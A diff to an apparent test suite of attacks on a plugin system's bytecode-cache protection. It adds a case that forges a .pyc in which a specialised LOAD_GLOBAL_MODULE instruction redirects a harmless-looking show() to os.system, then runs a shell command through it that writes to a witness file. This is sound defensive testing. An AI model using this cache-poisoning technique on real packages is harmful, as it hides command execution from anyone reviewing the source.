@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+import dis
 import importlib.util
 import marshal
+import opcode
 import os
+import sys
+import types
 from collections.abc import Callable
 from pathlib import Path
 from types import CodeType
@@ -114,6 +118,61 @@ def bytecode_with_any_name(application: Application) -> None:
 
 def source_in_a_cache(application: Application) -> None:
     application.write("alpha/__pycache__/hidden.py", PAYLOAD)
+
+
+# What `show` calls is the fifth name of the module when it runs: a specialised instruction of it can
+# be made to take the fourth.
+SPECIALIZED = """
+from os import system
+def show(text):
+    return show_safely(text)
+def show_safely(text):
+    pass
+"""
+
+
+def _load_global_module() -> int:
+    """The number of the instruction ``LOAD_GLOBAL_MODULE``, which no compiler writes."""
+    if sys.version_info >= (3, 13):
+        return int(opcode._specialized_opmap["LOAD_GLOBAL_MODULE"])  # type: ignore[attr-defined]
+    if sys.version_info >= (3, 12):
+        return int(dis._all_opmap["LOAD_GLOBAL_MODULE"])  # type: ignore[attr-defined]
+    free = [number for number in range(1, 255) if opcode.opname[number] == f"<{number}>"]
+    names: list[str] = opcode._specialized_instructions  # type: ignore[attr-defined]
+    return free[names.index("LOAD_GLOBAL_MODULE")]
+
+
+def specialized(source: str, path: str) -> bytes:
+    """The bytecode of ``SPECIALIZED``, marshalled, in which ``show`` calls ``system``.
+
+    Attributes of a code object do not tell: ``co_code`` shows the instruction as the compiler writes
+    it, and without what is cached in it.
+    """
+    code = compile(source, path, "exec", dont_inherit=True)
+    (show,) = (each for each in code.co_consts if getattr(each, "co_name", "") == "show")
+    original = show.co_code
+    changed = bytearray(original)
+    at = next(n for n in range(0, len(changed), 2) if changed[n] == dis.opmap["LOAD_GLOBAL"])
+    changed[at] = _load_global_module()
+    namespace: dict[str, object] = dict.fromkeys(vars(types.ModuleType("x")))
+    namespace |= dict.fromkeys(("__file__", "__cached__"))
+    exec(code, namespace)
+    cache = at + (8 if sys.version_info >= (3, 13) else 4)
+    index = [*namespace].index("system")
+    changed[cache : cache + 2] = index.to_bytes(2, "little")
+    data = marshal.dumps(code)
+    assert data.count(original) == 1
+    return data.replace(original, bytes(changed))
+
+
+def cache_with_specialized_instructions(application: Application) -> None:
+    application.write("alpha/helper.py", SPECIALIZED)
+    application.lock()
+    root_of_caches(application)
+    (place,) = (application.folder / "caches").rglob("*.pyc")
+    source = application.plugin / "helper.py"
+    header = importlib.util.MAGIC_NUMBER + unchecked_hash(source)
+    place.write_bytes(header + specialized(SPECIALIZED, str(source)))
 
 
 PREFIX = {"PYTHONPYCACHEPREFIX": "caches"}
@@ -280,6 +339,20 @@ ATTACKS = (
         importlib.machinery.SourceFileLoader('anything', path).exec_module(types.ModuleType('anything'))
         """,
         root_of_caches,
+    ),
+    Attack(
+        "bytecode/specialized",
+        "The same, with an instruction in it that only a running interpreter writes.",
+        NOT_COMPILED,
+        """
+        import importlib.util
+        spec = importlib.util.spec_from_file_location('anything', 'plugins/alpha/helper.py')
+        module = importlib.util.module_from_spec(spec)
+        spec.loader.exec_module(module)
+        module.show('echo PAYLOAD >> "$WITNESS"')
+        """,
+        cache_with_specialized_instructions,
+        environment=PREFIX,
     ),
     Attack(
         "bytecode/source-loader-cache",
